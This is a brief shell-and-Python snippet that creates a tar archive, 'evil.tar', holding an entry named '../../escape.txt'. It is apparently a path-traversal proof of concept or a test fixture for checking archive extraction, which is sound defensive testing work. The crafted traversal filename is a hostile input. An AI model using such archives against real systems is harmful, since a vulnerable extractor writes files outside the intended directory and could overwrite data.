python3 - <<'EOF'
import tarfile, io
with tarfile.open('evil.tar', 'w') as t:
    data = b'escaped\n'
    i = tarfile.TarInfo('../../escape.txt'); i.size = len(data); t.addfile(i, io.BytesIO(data))
EOF
